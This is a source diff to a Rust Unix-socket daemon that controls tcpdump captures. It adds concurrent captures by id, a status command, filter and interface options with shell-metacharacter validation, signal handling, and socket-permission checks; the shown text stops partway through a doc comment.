@@ -15,20 +15,87 @@
 // along with tcpdump_controller.  If not, see <http://www.gnu.org/licenses/>.
 mod error;
 
+use std::collections::HashMap;
+use std::ffi::CString;
 use std::fs;
 use std::io::{self, BufRead, BufReader, Read, Write};
 use std::os::unix::fs::PermissionsExt;
+use std::os::unix::io::{AsRawFd, RawFd};
 use std::os::unix::net::{UnixListener, UnixStream};
-use std::process::{Child, Command, Stdio};
+use std::path::Path;
+use std::process::{Child, ChildStderr, Command, Stdio};
+use std::string::FromUtf8Error;
+use std::sync::atomic::{AtomicBool, AtomicI32, AtomicUsize, Ordering};
+use std::sync::{mpsc, Arc, Mutex, MutexGuard, PoisonError};
+use std::thread::{self, JoinHandle};
+use std::time::Duration;
 
 use byteorder::{LittleEndian, ReadBytesExt};
+use clap::{App, Arg};
 use log::{debug, error, info, warn};
 use nix::errno::Errno;
-use nix::sys::signal;
-use nix::unistd::Pid;
+use nix::fcntl::OFlag;
+use nix::libc::{self, c_char, c_int};
+use nix::poll::{self, EventFlags, PollFd};
+use nix::sys::signal::{self, SaFlags, SigAction, SigHandler, SigSet, Signal};
+use nix::unistd::{self, Gid, Pid};
 
 use error::TcpdumpError;
 
+/// Longest filename accepted by the start command
+const MAX_FILENAME_LENGTH: u32 = 1024 * 1024;
+/// Longest capture filter accepted by the start command
+const MAX_FILTER_LENGTH: u32 = 64 * 1024;
+/// Longest interface name accepted by the start command
+const MAX_INTERFACE_LENGTH: u32 = 256;
+/// Characters with a meaning to shells, refused in capture filters
+///
+/// BPF spells `&&`, `||`, `<`, and `>` as `and`, `or`, `less`, and `greater`, so filters never
+/// need these
+const FILTER_METACHARACTERS: &[char] = &[';', '|', '&', '$', '`', '<', '>', '\\'];
+/// Flag of the start with options command saying a capture id follows
+const START_FLAG_ID: u8 = 0x01;
+/// Flag of the start with options command saying a filter follows
+const START_FLAG_FILTER: u8 = 0x02;
+/// Flag of the start with options command saying an interface follows
+const START_FLAG_INTERFACE: u8 = 0x04;
+/// Flag of the start with options command saying a snaplen follows
+const START_FLAG_SNAPLEN: u8 = 0x08;
+
+/// Set by the signal handler when the controller should shut down
+static SHUTDOWN_REQUESTED: AtomicBool = AtomicBool::new(false);
+/// Write end of the pipe the signal handler wakes the main loop through, or -1 before it exists
+static SIGNAL_PIPE: AtomicI32 = AtomicI32::new(-1);
+
+/// Seconds to wait for tcpdump to print its startup message, unless the command line says otherwise
+const DEFAULT_STARTUP_TIMEOUT_SECS: &str = "10";
+
+/// Path of the socket, used when neither the command line nor the environment gives one
+const DEFAULT_SOCKET_PATH: &str = "/tmp/tcpdump.socket";
+
+/// Permissions of the socket in octal, unless the command line or environment says otherwise
+///
+/// Only the owner and group may connect, since anyone who can connect can start and stop
+/// captures and choose where they're written. The socket keeps the controller's group unless
+/// `--socket-group` gives it another, so without it only root can connect when the controller
+/// runs as root
+const DEFAULT_SOCKET_MODE: &str = "660";
+
+/// Most clients served at once, unless the command line says otherwise
+const DEFAULT_MAX_CONNECTIONS: &str = "16";
+
+/// Running captures, keyed by capture id, shared by every connection
+type Captures = Mutex<HashMap<u32, Capture>>;
+
+/// Locks the running captures
+///
+/// A connection that panicked can't leave the map half-updated, so a poisoned lock is still used
+/// # Parameters
+/// * `captures` - Running captures, keyed by capture id
+fn lock_captures(captures: &Captures) -> MutexGuard<'_, HashMap<u32, Capture>> {
+    captures.lock().unwrap_or_else(PoisonError::into_inner)
+}
+
 fn terminate_child(mut child: Child) -> Result<(), TcpdumpError> {
     // Get pid as proper type
     let pid = Pid::from_raw(child.id() as i32);
@@ -62,119 +129,299 @@ fn terminate_child(mut child: Child) -> Result<(), TcpdumpError> {
         })
 }
 fn handle_connection(
-    mut stream: &mut UnixStream,
-    mut tcpdump: Option<Child>,
-) -> Result<Option<Child>, TcpdumpError> {
+    stream: &mut UnixStream,
+    captures: &Captures,
+    startup_timeout: Duration,
+) -> Result<(), TcpdumpError> {
     // All requests are bytes, allocate 1 byte
     let mut request: [u8; 1] = [0];
-    // Get command code
-    while let Ok(_) = stream.read(&mut request) {
-        // Execute the command
-        let command_result = handle_command(request[0], &mut stream, tcpdump);
-        // Determine the return code
-        let return_code = if command_result.is_ok() { 0x00 } else { 0x01 };
-        // Send the return code
-        if let Err(err) = stream.write(&[return_code]) {
-            if let Ok(Some(child)) = command_result {
-                terminate_child(child)?;
+    loop {
+        // Get command code
+        match stream.read(&mut request) {
+            // The client closed the connection
+            Ok(0) => break,
+            Ok(_) => {}
+            // A signal interrupted the read, so stop if it asked the controller to shut down
+            Err(ref err) if err.kind() == io::ErrorKind::Interrupted => {
+                if SHUTDOWN_REQUESTED.load(Ordering::SeqCst) {
+                    break;
+                }
+                continue;
             }
+            Err(_) => break,
+        }
+        // Execute the command
+        let command_result = handle_command(request[0], stream, captures, startup_timeout);
+        // Send the response
+        if let Err(err) = stream.write_all(&encode_response(request[0], &command_result)) {
             return Err(TcpdumpError::SocketIOError(err));
         }
         // Flush the output stream
         if let Err(err) = stream.flush() {
-            if let Ok(Some(child)) = command_result {
-                terminate_child(child)?;
-            }
             return Err(TcpdumpError::SocketIOError(err));
         }
-        // Handle the command's output
+        // Only the shutdown command and failing to talk to the client end the connection. Any
+        // other error only fails its command, and the client was already told about it
         match command_result {
-            // If the command succeeded, and returned, then accept the child
-            Ok(new_tcpdump) => {
-                tcpdump = new_tcpdump;
+            Err(err @ TcpdumpError::ShutdownError) | Err(err @ TcpdumpError::SocketIOError(_)) => {
+                return Err(err)
             }
-            // If the command failed with an error, terminate the connection and return the error
-            Err(err) => return Err(err),
+            Err(err) => warn!("{}", err),
+            Ok(_) => {}
         }
     }
-    Ok(tcpdump)
+    Ok(())
+}
+
+/// Counts a connection as being served until it's dropped
+struct ConnectionSlot(Arc<AtomicUsize>);
+
+impl ConnectionSlot {
+    /// Takes a slot, unless the most connections allowed are already being served
+    /// # Parameters
+    /// * `active` - Number of connections being served
+    /// * `max_connections` - Most connections to serve at once
+    fn take(active: &Arc<AtomicUsize>, max_connections: usize) -> Option<Self> {
+        active
+            .fetch_update(Ordering::SeqCst, Ordering::SeqCst, |count| {
+                if count < max_connections {
+                    Some(count + 1)
+                } else {
+                    None
+                }
+            })
+            .ok()
+            .map(|_| ConnectionSlot(Arc::clone(active)))
+    }
 }
 
+impl Drop for ConnectionSlot {
+    fn drop(&mut self) {
+        self.0.fetch_sub(1, Ordering::SeqCst);
+    }
+}
+
+/// Serves a connection on its own thread, so a slow command like start doesn't keep other
+/// clients from stopping or checking on captures
+///
+/// Connections beyond the limit are closed right away. A command that fails only fails for its
+/// client, and an error talking to the client only closes its connection, while the shutdown
+/// command shuts the whole controller down. Returns the thread serving the connection, if it was
+/// accepted.
+/// # Parameters
+/// * `stream` - The new connection
+/// * `captures` - Running captures, keyed by capture id
+/// * `active` - Number of connections being served
+/// * `max_connections` - Most connections to serve at once
+/// * `startup_timeout` - How long to wait for a started tcpdump to print its first line
+fn spawn_connection(
+    mut stream: UnixStream,
+    captures: &Arc<Captures>,
+    active: &Arc<AtomicUsize>,
+    max_connections: usize,
+    startup_timeout: Duration,
+) -> Option<JoinHandle<()>> {
+    let slot = match ConnectionSlot::take(active, max_connections) {
+        Some(slot) => slot,
+        None => {
+            warn!(
+                "Refusing connection, already serving {} clients",
+                max_connections
+            );
+            return None;
+        }
+    };
+    let captures = Arc::clone(captures);
+    Some(thread::spawn(move || {
+        match handle_connection(&mut stream, &captures, startup_timeout) {
+            Ok(()) => {}
+            Err(TcpdumpError::ShutdownError) => request_shutdown(),
+            Err(err) => error!("{}", err),
+        }
+        drop(slot);
+    }))
+}
+
+/// Terminates every running capture, continuing past failures
+///
+/// Returns the last error encountered, if any
+/// # Parameters
+/// * `captures` - Running captures, keyed by capture id
+fn terminate_all(captures: &Captures) -> Result<(), TcpdumpError> {
+    // Stop the captures without holding the lock, so status requests are still answered
+    let stopping: Vec<(u32, Capture)> = lock_captures(captures).drain().collect();
+    let mut result = Ok(());
+    for (id, capture) in stopping {
+        info!("Stopping capture {}", id);
+        if let Err(err) = terminate_child(capture.child) {
+            error!("Error stopping capture {}: {}", id, err);
+            result = Err(err);
+        }
+    }
+    result
+}
+
+/// A running capture
+#[derive(Debug)]
+struct Capture {
+    /// The capture's tcpdump process
+    child: Child,
+    /// Path of the pcap file being written
+    filename: String,
+}
+
+/// What a capture looked like when the status command was received
+#[derive(Debug, PartialEq)]
+struct CaptureStatus {
+    /// Id of the capture
+    id: u32,
+    /// PID of the capture's tcpdump
+    pid: u32,
+    /// Whether tcpdump is still running
+    running: bool,
+    /// Path of the pcap file being written
+    filename: String,
+}
+
+/// Output of a successful command, sent after the return code
+#[derive(Debug, PartialEq)]
+enum CommandOutput {
+    /// Nothing beyond the return code
+    Empty,
+    /// PID of the started tcpdump
+    Started(u32),
+    /// Every capture being managed, sorted by id
+    Status(Vec<CaptureStatus>),
+}
+
+/// Builds the response to a command
+///
+/// Every response starts with a return code, 0x00 for success or 0x01 for failure, then
+/// continues with, all integers little-endian:
+/// * on starting a capture, the u32 PID of the capture's tcpdump
+/// * on getting the status, a u32 payload length, then a payload of a u32 number of captures,
+///   each given as a u32 id, u32 PID, u8 1 if tcpdump is running or 0 otherwise, u32 filename
+///   length, and the UTF-8 filename
+/// * on failing to start a capture, a u32 length, then a UTF-8 description of the error
+/// # Parameters
+/// * `command` - Command code the response is for
+/// * `result` - Result of executing the command
+fn encode_response(command: u8, result: &Result<CommandOutput, TcpdumpError>) -> Vec<u8> {
+    let mut response = vec![if result.is_ok() { 0x00 } else { 0x01 }];
+    match *result {
+        Ok(CommandOutput::Empty) => {}
+        Ok(CommandOutput::Started(pid)) => {
+            response.extend_from_slice(&pid.to_le_bytes());
+        }
+        Ok(CommandOutput::Status(ref captures)) => {
+            let mut payload = (captures.len() as u32).to_le_bytes().to_vec();
+            for capture in captures {
+                payload.extend_from_slice(&capture.id.to_le_bytes());
+                payload.extend_from_slice(&capture.pid.to_le_bytes());
+                payload.push(capture.running as u8);
+                payload.extend_from_slice(&(capture.filename.len() as u32).to_le_bytes());
+                payload.extend_from_slice(capture.filename.as_bytes());
+            }
+            response.extend_from_slice(&(payload.len() as u32).to_le_bytes());
+            response.extend_from_slice(&payload);
+        }
+        Err(ref err) => {
+            if command == 0x00 || command == 0x04 {
+                let message = err.to_string();
+                response.extend_from_slice(&(message.len() as u32).to_le_bytes());
+                response.extend_from_slice(message.as_bytes());
+            }
+        }
+    }
+    response
+}
+
+/// Describes every capture being managed, sorted by id
+/// # Parameters
+/// * `captures` - Running captures, keyed by capture id
+fn capture_statuses(captures: &Captures) -> Vec<CaptureStatus> {
+    let mut statuses: Vec<CaptureStatus> = lock_captures(captures)
+        .iter_mut()
+        .map(|(&id, capture)| CaptureStatus {
+            id,
+            pid: capture.child.id(),
+            // A capture whose status can't be checked is assumed to still be running
+            running: !matches!(capture.child.try_wait(), Ok(Some(_))),
+            filename: capture.filename.clone(),
+        })
+        .collect();
+    statuses.sort_by_key(|status| status.id);
+    statuses
+}
+
+/// Reads the first line a child prints to stderr, giving up after the given time
+///
+/// The line is read on another thread, so a child that neither prints anything nor exits can't
+/// block the controller. Returns the line along with stderr, so it can be given back to the child.
+/// # Parameters
+/// * `stderr` - The child's stderr
+/// * `timeout` - How long to wait for the line
+fn read_initial_message(
+    stderr: ChildStderr,
+    timeout: Duration,
+) -> Result<(String, ChildStderr), TcpdumpError> {
+    let (sender, receiver) = mpsc::channel();
+    thread::spawn(move || {
+        // Get buffered reader to read until newline
+        let mut stderr_reader = BufReader::new(stderr);
+        // Allocate buffer to store the line
+        let mut first_line = String::new();
+        // Read the first line
+        let result = stderr_reader.read_line(&mut first_line).map(|_| {
+            // Retrieve stderr out of the bufreader, so we can return it to the child object
+            // This discards any buffered input, but we don't care about that
+            (first_line, stderr_reader.into_inner())
+        });
+        // If the wait timed out, nobody is listening, and stderr is closed here
+        let _ = sender.send(result);
+    });
+    match receiver.recv_timeout(timeout) {
+        Ok(result) => result.map_err(TcpdumpError::InitialMessageError),
+        Err(_) => Err(TcpdumpError::InitialMessageTimeout(timeout)),
+    }
+}
+
+/// Executes a command
+///
+/// Returns what to send the client after the return code. The captures are only locked while
+/// they're looked at or updated, never while waiting on tcpdump or the client.
+/// # Parameters
+/// * `command` - Command code to execute
+/// * `stream` - Connection to read the command's parameters from
+/// * `captures` - Running captures, keyed by capture id
+/// * `startup_timeout` - How long to wait for a started tcpdump to print its first line
 fn handle_command(
     command: u8,
     stream: &mut UnixStream,
-    tcpdump: Option<Child>,
-) -> Result<Option<Child>, TcpdumpError> {
-    let tcpdump = match command {
-        // Start tcpdump
-        0x00 => {
+    captures: &Captures,
+    startup_timeout: Duration,
+) -> Result<CommandOutput, TcpdumpError> {
+    let output = match command {
+        // Start tcpdump, with or without options
+        0x00 | 0x04 => {
             // Read in the TCPDUMP Start parameters
-            // Read the length of the filename
-            // If we can't read command arguments, then the connection is in an
-            // undetermined state, and tcpdump should be shut down just in case
-            let filename_length = match stream.read_u32::<LittleEndian>() {
-                Ok(filename_length) => filename_length,
-                Err(err) => {
-                    // Shut down tcpdump if it exists
-                    if let Some(child) = tcpdump {
-                        terminate_child(child)?;
-                    }
-                    // Return the error
-                    return Err(TcpdumpError::SocketIOError(err));
-                }
-            };
-            // Ensure it's not allocating some insane amount
-            const MAX_FILENAME_LENGTH: u32 = 1024 * 1024;
-            // Return error
-            if filename_length > MAX_FILENAME_LENGTH {
-                // Shut down tcpdump if it exists
-                if let Some(child) = tcpdump {
-                    terminate_child(child)?;
-                }
-                return Err(TcpdumpError::FilenameLengthError);
-            }
-            // Create a buffer for the filename
-            let mut filename_buffer = vec![0; filename_length as usize];
-            // Read the filename
-            // If we can't read command arguments, then the connection is in an
-            // undetermined state, and tcpdump should be shut down just in case
-            match stream.read(&mut filename_buffer) {
-                Ok(_) => {}
-                Err(err) => {
-                    // Shut down tcpdump if it exists
-                    if let Some(child) = tcpdump {
-                        terminate_child(child)?;
-                    }
-                    // Return the error
-                    return Err(TcpdumpError::SocketIOError(err));
-                }
-            }
-            // Convert filename to string
-            // This error is non-fatal. It will be returned to the client
-            let filename = match String::from_utf8(filename_buffer) {
-                Ok(filename) => filename,
-                Err(err) => {
-                    // Shut down tcpdump if it exists
-                    if let Some(child) = tcpdump {
-                        terminate_child(child)?;
-                    }
-                    return Err(TcpdumpError::FilenameParseError(err));
-                }
+            // Bad parameters are read in full before failing, so the connection is still ready
+            // for the next command. Failing to read them at all ends the connection
+            let arguments = if command == 0x00 {
+                StartArguments::read(stream)?
+            } else {
+                StartArguments::read_with_options(stream)?
             };
 
-            // Check if there is already a tcpdump started
-            // Non-fatal, returned to client
-            if tcpdump.is_some() {
-                if let Some(child) = tcpdump {
-                    terminate_child(child)?;
-                }
-                return Err(TcpdumpError::ExistingTcpdumpError);
+            // Check if there is already a tcpdump started under this id
+            if lock_captures(captures).contains_key(&arguments.id) {
+                return Err(TcpdumpError::ExistingCaptureError(arguments.id));
             }
 
             // Start tcpdump
             // Error here is fatal
-            let mut child = Command::new("tcpdump")
-                .args(&["-j", "host_hiprec", "-K", "-w", &filename])
+            let mut child = arguments
+                .command()
                 .stdin(Stdio::null())
                 .stdout(Stdio::inherit())
                 .stderr(Stdio::piped())
@@ -194,75 +441,568 @@ fn handle_command(
 
             // Read a line from the child's stderr
             info!("Waiting for tcpdump to print initial startup message");
-            // Get buffered reader to read until newline
-            let mut stderr_reader = BufReader::new(stderr);
-            // Allocate buffer to store the line
-            let mut first_line = String::new();
-            // Read the first line
-            match stderr_reader.read_line(&mut first_line) {
-                Ok(_) => {
+            let stderr = match read_initial_message(stderr, startup_timeout) {
+                Ok((first_line, stderr)) => {
                     info!("Tcpdump printed first line: {}", first_line);
+                    stderr
                 }
                 Err(err) => {
-                    // If the process terminates and stderr ends, tcpdump has failed.
+                    // If the process terminates and stderr ends, or it never prints anything,
+                    // tcpdump has failed.
                     // Terminate the process
                     terminate_child(child)?;
                     // Return an error
-                    return Err(TcpdumpError::InitialMessageError(err));
+                    return Err(err);
                 }
-            }
-            // Retrieve stderr out of the bufreader, so we can return it to the child object
-            // This discards any buffered input, but we don't care about that
-            let stderr = stderr_reader.into_inner();
+            };
             // Put stderr back into the child so it isn't deallocated here
             child.stderr = Some(stderr);
-            // Pass the child back up to the connection handler, and indicate that we will not
-            // shutdown
-            Some(child)
+            // Keep track of the child so it can be stopped later
+            let pid = child.id();
+            let mut running = lock_captures(captures);
+            // Another client may have started a capture under this id while tcpdump started,
+            // and captures started after shutting down began would never be stopped
+            let conflict = if SHUTDOWN_REQUESTED.load(Ordering::SeqCst) {
+                Some(TcpdumpError::ShutdownError)
+            } else if running.contains_key(&arguments.id) {
+                Some(TcpdumpError::ExistingCaptureError(arguments.id))
+            } else {
+                None
+            };
+            if let Some(err) = conflict {
+                drop(running);
+                terminate_child(child)?;
+                return Err(err);
+            }
+            running.insert(
+                arguments.id,
+                Capture {
+                    child,
+                    filename: arguments.filename,
+                },
+            );
+            CommandOutput::Started(pid)
         }
         // Stop tcpdump
-        0x01 => {
-            if let Some(child) = tcpdump {
+        0x01 | 0x05 => {
+            // The plain stop command stops the capture a plain start command started
+            let id = if command == 0x01 {
+                0
+            } else {
+                stream
+                    .read_u32::<LittleEndian>()
+                    .map_err(TcpdumpError::SocketIOError)?
+            };
+            // Bind the capture first, so the lock is released before waiting for tcpdump to exit
+            let capture = lock_captures(captures).remove(&id);
+            if let Some(capture) = capture {
                 // Terminate the child
-                terminate_child(child)?;
-                info!("Stopped tcpdump");
+                terminate_child(capture.child)?;
+                info!("Stopped capture {}", id);
             } else {
-                return Err(TcpdumpError::NonexistingTcpdumpError);
+                return Err(TcpdumpError::NonexistingCaptureError(id));
             }
-            // The child is now non-existent
-            None
+            CommandOutput::Empty
         }
         // Shut down the whole thing
         0x02 => {
-            if let Some(child) = tcpdump {
-                info!("Stopping tcpdump");
-                terminate_child(child)?;
-                info!("Stopped tcpdump");
-            }
+            terminate_all(captures)?;
             return Err(TcpdumpError::ShutdownError);
         }
+        // Report the captures being managed
+        // Never fails, so clients can use this to poll the controller's health
+        0x03 => CommandOutput::Status(capture_statuses(captures)),
         // Invalid command
         invalid_command => {
-            // We could fail here, but we only pass through the child on success,
-            // so we'll log a warning and let this slide
+            // We could fail here, but we'll log a warning and let this slide
             warn!("Received invalid command {:x}", invalid_command);
-            tcpdump
+            CommandOutput::Empty
+        }
+    };
+    Ok(output)
+}
+
+/// Reads a string sent as its length (a little-endian u32) followed by its UTF-8 bytes
+///
+/// A string that is too long is read and discarded before failing, so the next field starts
+/// where the client sent it
+/// # Parameters
+/// * `reader` - Where to read the string from
+/// * `max_length` - Longest string to accept, so a bad length can't allocate some insane amount
+/// * `length_error` - Error to return if the string is longer than `max_length`
+/// * `parse_error` - Converts invalid UTF-8 into an error
+fn read_string<R: Read>(
+    reader: &mut R,
+    max_length: u32,
+    length_error: TcpdumpError,
+    parse_error: fn(FromUtf8Error) -> TcpdumpError,
+) -> Result<String, TcpdumpError> {
+    // Read the length of the string
+    let length = reader
+        .read_u32::<LittleEndian>()
+        .map_err(TcpdumpError::SocketIOError)?;
+    if length > max_length {
+        let discarded = io::copy(&mut reader.take(u64::from(length)), &mut io::sink())
+            .map_err(TcpdumpError::SocketIOError)?;
+        if discarded < u64::from(length) {
+            return Err(TcpdumpError::SocketIOError(
+                io::ErrorKind::UnexpectedEof.into(),
+            ));
+        }
+        return Err(length_error);
+    }
+    // Read the string itself
+    let mut buffer = vec![0; length as usize];
+    reader
+        .read_exact(&mut buffer)
+        .map_err(TcpdumpError::SocketIOError)?;
+    String::from_utf8(buffer).map_err(parse_error)
+}
+
+/// Reads the filename every start command begins with
+/// # Parameters
+/// * `reader` - Where to read the filename from
+fn read_filename<R: Read>(reader: &mut R) -> Result<String, TcpdumpError> {
+    read_string(
+        reader,
+        MAX_FILENAME_LENGTH,
+        TcpdumpError::FilenameLengthError,
+        TcpdumpError::FilenameParseError,
+    )
+}
+
+/// Fails if reading a field failed because of the connection, since nothing more can be read
+/// from it, and otherwise gives back the field so a bad one can fail once the rest are read
+/// # Parameters
+/// * `field` - Result of reading the field
+fn unless_disconnected<T>(
+    field: Result<T, TcpdumpError>,
+) -> Result<Result<T, TcpdumpError>, TcpdumpError> {
+    match field {
+        Err(err @ TcpdumpError::SocketIOError(_)) => Err(err),
+        field => Ok(field),
+    }
+}
+
+/// Ensures a capture filter is safe to pass to tcpdump
+///
+/// The filter is passed as a single argument rather than through a shell, but control
+/// characters and shell metacharacters are rejected anyway, in case a wrapper script ever passes
+/// it on through a shell
+/// # Parameters
+/// * `filter` - Filter expression to check
+fn validate_filter(filter: &str) -> Result<(), TcpdumpError> {
+    if filter
+        .chars()
+        .any(|c| c.is_control() || FILTER_METACHARACTERS.contains(&c))
+    {
+        Err(TcpdumpError::InvalidFilterError(filter.to_string()))
+    } else {
+        Ok(())
+    }
+}
+
+/// Parameters of the start commands
+///
+/// The start command (0x00) is followed by a u32 filename length, then the UTF-8 filename, with
+/// all integers little-endian. It starts capture 0, which the stop command (0x01) stops.
+///
+/// The start with options command (0x04) is followed by the filename as above, then a u8 of
+/// flags saying which of these fields follow, in this order:
+/// * 0x01: u32 capture id, chosen by the client to stop the capture with the stop by id
+///   command (0x05), followed by the u32 id (0 if not sent)
+/// * 0x02: u32 filter length, then the UTF-8 BPF filter (no filter if not sent or empty)
+/// * 0x04: u32 interface length, then the UTF-8 interface name (tcpdump's default if not sent or
+///   empty)
+/// * 0x08: u32 snaplen (tcpdump's default if not sent or 0)
+///
+/// Any other flag is an error, so options added later aren't silently ignored. The fields of
+/// unknown flags can't be skipped, so a client must not send any
+#[derive(Debug, PartialEq)]
+struct StartArguments {
+    /// Id of the capture
+    id: u32,
+    /// Path of the pcap file to write
+    filename: String,
+    /// BPF filter expression, or empty to capture everything
+    filter: String,
+    /// Interface to capture on, or empty for tcpdump's default
+    interface: String,
+    /// Number of bytes to capture from each packet, or 0 for tcpdump's default
+    snaplen: u32,
+}
+
+impl StartArguments {
+    /// Reads the parameters of a start command sent after its command code
+    /// # Parameters
+    /// * `reader` - Where to read the parameters from
+    fn read<R: Read>(reader: &mut R) -> Result<Self, TcpdumpError> {
+        let filename = read_filename(reader)?;
+        Ok(StartArguments {
+            id: 0,
+            filename,
+            filter: String::new(),
+            interface: String::new(),
+            snaplen: 0,
+        })
+    }
+
+    /// Reads the parameters of a start with options command sent after its command code
+    /// # Parameters
+    /// * `reader` - Where to read the parameters from
+    ///
+    /// Every field is read before any bad one fails the command, so the connection is ready for
+    /// the next command
+    fn read_with_options<R: Read>(reader: &mut R) -> Result<Self, TcpdumpError> {
+        let filename = unless_disconnected(read_filename(reader))?;
+        let flags = reader.read_u8().map_err(TcpdumpError::SocketIOError)?;
+        let id = if flags & START_FLAG_ID != 0 {
+            reader
+                .read_u32::<LittleEndian>()
+                .map_err(TcpdumpError::SocketIOError)?
+        } else {
+            0
+        };
+        let filter = if flags & START_FLAG_FILTER != 0 {
+            unless_disconnected(read_string(
+                reader,
+                MAX_FILTER_LENGTH,
+                TcpdumpError::FilterLengthError,
+                TcpdumpError::FilterParseError,
+            ))?
+        } else {
+            Ok(String::new())
+        };
+        let interface = if flags & START_FLAG_INTERFACE != 0 {
+            unless_disconnected(read_string(
+                reader,
+                MAX_INTERFACE_LENGTH,
+                TcpdumpError::InterfaceLengthError,
+                TcpdumpError::InterfaceParseError,
+            ))?
+        } else {
+            Ok(String::new())
+        };
+        let snaplen = if flags & START_FLAG_SNAPLEN != 0 {
+            reader
+                .read_u32::<LittleEndian>()
+                .map_err(TcpdumpError::SocketIOError)?
+        } else {
+            0
+        };
+        // With every field read, fail on the first bad one
+        let filename = filename?;
+        let known_flags =
+            START_FLAG_ID | START_FLAG_FILTER | START_FLAG_INTERFACE | START_FLAG_SNAPLEN;
+        if flags & !known_flags != 0 {
+            return Err(TcpdumpError::StartFlagsError(flags));
+        }
+        let filter = filter?;
+        validate_filter(&filter)?;
+        let interface = interface?;
+        Ok(StartArguments {
+            id,
+            filename,
+            filter,
+            interface,
+            snaplen,
+        })
+    }
+
+    /// Builds the tcpdump command these parameters describe
+    fn command(&self) -> Command {
+        let mut command = Command::new("tcpdump");
+        command.args(["-j", "host_hiprec", "-K", "-w", &self.filename]);
+        if !self.interface.is_empty() {
+            command.args(["-i", &self.interface]);
+        }
+        if self.snaplen != 0 {
+            command.args(["-s", &self.snaplen.to_string()]);
+        }
+        if !self.filter.is_empty() {
+            // Keep tcpdump from reading the filter as options
+            command.args(["--", &self.filter]);
+        }
+        command
+    }
+}
+
+/// Handles SIGINT and SIGTERM by asking the main loop to shut down
+extern "C" fn handle_signal(_signal: c_int) {
+    request_shutdown();
+}
+
+/// Asks the main loop to shut down
+///
+/// Only async-signal-safe work is done here: setting a flag, and waking the main loop through
+/// the signal pipe
+fn request_shutdown() {
+    SHUTDOWN_REQUESTED.store(true, Ordering::SeqCst);
+    let signal_pipe = SIGNAL_PIPE.load(Ordering::SeqCst);
+    if signal_pipe >= 0 {
+        // If the pipe is full, the main loop is already awake
+        let _ = unistd::write(signal_pipe, &[0]);
+    }
+}
+
+/// Installs the handler for SIGINT and SIGTERM
+///
+/// Returns the read end of the pipe the handler writes to when a signal is received
+fn install_signal_handlers() -> Result<RawFd, TcpdumpError> {
+    // Keep tcpdump from inheriting the pipe, and the handler from blocking on a full pipe
+    let (read_end, write_end) =
+        unistd::pipe2(OFlag::O_CLOEXEC | OFlag::O_NONBLOCK).map_err(TcpdumpError::SignalError)?;
+    SIGNAL_PIPE.store(write_end, Ordering::SeqCst);
+    // Blocking reads are interrupted rather than restarted, so the main loop notices the signal
+    let action = SigAction::new(
+        SigHandler::Handler(handle_signal),
+        SaFlags::empty(),
+        SigSet::empty(),
+    );
+    for &signal in &[Signal::SIGINT, Signal::SIGTERM] {
+        // SAFETY: the handler only does async-signal-safe work, storing to atomics and writing
+        // to a pipe, so it may interrupt the program anywhere
+        unsafe { signal::sigaction(signal, &action) }.map_err(TcpdumpError::SignalError)?;
+    }
+    Ok(read_end)
+}
+
+/// Waits until a client connects or a signal is received
+///
+/// Returns whether a client connected
+/// # Parameters
+/// * `listener` - Socket clients connect to
+/// * `signal_pipe` - Read end of the pipe the signal handler writes to
+fn wait_for_connection(listener: &UnixListener, signal_pipe: RawFd) -> Result<bool, TcpdumpError> {
+    loop {
+        let mut fds = [
+            PollFd::new(listener.as_raw_fd(), EventFlags::POLLIN),
+            PollFd::new(signal_pipe, EventFlags::POLLIN),
+        ];
+        match poll::poll(&mut fds, -1) {
+            Ok(_) => {}
+            // The signal pipe is readable after the handler runs, so just poll again
+            Err(nix::Error::Sys(Errno::EINTR)) => continue,
+            Err(err) => return Err(TcpdumpError::SignalError(err)),
+        }
+        let is_ready = |fd: &PollFd| fd.revents().is_some_and(|events| !events.is_empty());
+        if is_ready(&fds[1]) {
+            return Ok(false);
+        }
+        if is_ready(&fds[0]) {
+            return Ok(true);
         }
+    }
+}
+
+/// Listens on a unix socket at the given path
+fn bind_socket(path: &str) -> Result<UnixListener, TcpdumpError> {
+    UnixListener::bind(path).map_err(|err| TcpdumpError::BindError(path.to_string(), err))
+}
+
+/// Ensures the directory containing the socket is not world-writable
+///
+/// Any user could replace the socket in a world-writable directory, and intercept the commands
+/// meant for this server
+/// # Parameters
+/// * `path` - Path of the socket
+fn check_socket_dir(path: &str) -> Result<(), TcpdumpError> {
+    // A bare filename lives in the current directory
+    let dir = match Path::new(path).parent() {
+        Some(dir) if !dir.as_os_str().is_empty() => dir,
+        _ => Path::new("."),
     };
-    Ok(tcpdump)
+    let mode = fs::metadata(dir)
+        .map_err(TcpdumpError::SocketMetadataError)?
+        .permissions()
+        .mode();
+    if mode & 0o002 != 0 {
+        return Err(TcpdumpError::InsecureSocketDirError(
+            dir.display().to_string(),
+        ));
+    }
+    Ok(())
+}
+
+/// Parses socket permissions given in octal, as chmod takes them
+/// # Parameters
+/// * `mode` - Permissions to parse, with or without a leading `0o`
+fn parse_socket_mode(mode: &str) -> Result<u32, TcpdumpError> {
+    let digits = mode.strip_prefix("0o").unwrap_or(mode);
+    u32::from_str_radix(digits, 8)
+        .ok()
+        .filter(|mode| *mode <= 0o777)
+        .ok_or_else(|| TcpdumpError::SocketModeParseError(mode.to_string()))
+}
+
+/// Looks up the id of the group with the given name
+///
+/// A name no group has is taken as a numeric group id, as chgrp does, as long as a group has
+/// that id
+/// # Parameters
+/// * `name` - Name of the group
+fn lookup_group(name: &str) -> Result<Gid, TcpdumpError> {
+    let unknown = || TcpdumpError::UnknownGroupError(name.to_string());
+    let lookup_error = |err| TcpdumpError::GroupLookupError(name.to_string(), err);
+    let c_name = CString::new(name).map_err(|_| unknown())?;
+    // SAFETY: the name is a NUL-terminated string that outlives the call, and read_group
+    // passes pointers to a group entry and a buffer of the given length that it owns
+    let by_name = read_group(|group, buffer, length, result| unsafe {
+        libc::getgrnam_r(c_name.as_ptr(), group, buffer, length, result)
+    })
+    .map_err(lookup_error)?;
+    if let Some(gid) = by_name {
+        return Ok(gid);
+    }
+    let gid: libc::gid_t = name.parse().map_err(|_| unknown())?;
+    // SAFETY: read_group passes pointers to a group entry and a buffer of the given length that
+    // it owns
+    let by_id = read_group(|group, buffer, length, result| unsafe {
+        libc::getgrgid_r(gid, group, buffer, length, result)
+    })
+    .map_err(lookup_error)?;
+    by_id.ok_or_else(unknown)
+}
+
+/// Reads a group's entry with one of the reentrant group lookups, like `getgrnam_r`
+///
+/// Returns the group's id, or None if no group matched
+/// # Parameters
+/// * `lookup` - Calls the lookup with the entry to fill in, a buffer and its length for the
+///   entry's strings, and where to point at the entry if a group matched
